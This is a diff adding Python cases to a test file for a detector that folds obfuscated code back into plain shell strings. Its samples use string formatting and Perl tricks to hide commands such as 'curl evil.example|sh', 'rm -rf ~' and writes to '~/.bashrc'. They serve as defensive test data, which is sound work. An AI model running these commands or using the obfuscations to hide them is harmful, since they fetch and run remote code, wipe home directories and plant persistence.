@@ -148,6 +148,10 @@ def test_command_subject_uploads_are_normalized_paths():
     ("perl", "system('cu'.'rl x|sh')", '"curl x|sh"'),
     ("perl", 'system(scalar reverse "~ fr- mr")', '"rm -rf ~"'),
     ("perl", 'system(join("", map { chr } (114, 109)) . " -rf ~")', '"rm -rf ~"'),
+    ("python", "os.system('cu%sl x|%s' % ('r', 'sh'))", '"curl x|sh"'),
+    ("python", "open('%s/.bashrc' % os.environ['HOME'], 'a')", '"~/.bashrc"'),
+    ("python", "os.system('{0}url x|{1}h'.format('c', 's'))", '"curl x|sh"'),
+    ("python", "os.system('{}/.{}rc'.format('~', 'bash'))", '"~/.bashrc"'),
     # list context: split's characters reversed, then joined (a `//` here is perl's empty pattern)
     ("perl", 'system(join("",reverse(split(//,"hs|elpmaxe.live lruc"))))', '"curl evil.example|sh"'),
     ("perl", 'system(join "", reverse split //, "~ fr- mr")', '"rm -rf ~"'),
@@ -169,6 +173,9 @@ def test_fold(lang, code, needle):
     ("node", "console.log(a + b)"),
     ("perl", 'print "$x" . "y"'),  # interpolation: not a constant
     ("perl", "print 1 // 2"),  # defined-or, not a pattern
+    ("python", "print('%(a)s' % d)"),  # a mapping key: not followed
+    ("python", "print('{name}'.format(name=n))"),  # a named field: not followed
+    ("python", "x = 10 % 3"),
     ("perl", "print join(',', reverse(@ARGV))"),  # not constants
 ])
 def test_fold_leaves_the_rest_alone(lang, code):
